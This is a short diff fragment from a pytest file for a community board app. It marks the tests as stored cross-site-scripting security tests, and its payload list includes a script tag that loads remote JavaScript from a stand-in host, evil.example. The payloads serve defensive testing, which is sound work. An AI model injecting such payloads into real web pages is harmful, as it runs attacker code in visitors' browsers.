@@ -9,6 +9,8 @@ import pytest
 from community.models import Board, Post, Thread
 from community.services.boards import save_board
 
+pytestmark = pytest.mark.security("stored-xss")
+
 PAYLOADS = [
     "<script>alert(1)</script>",
     "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
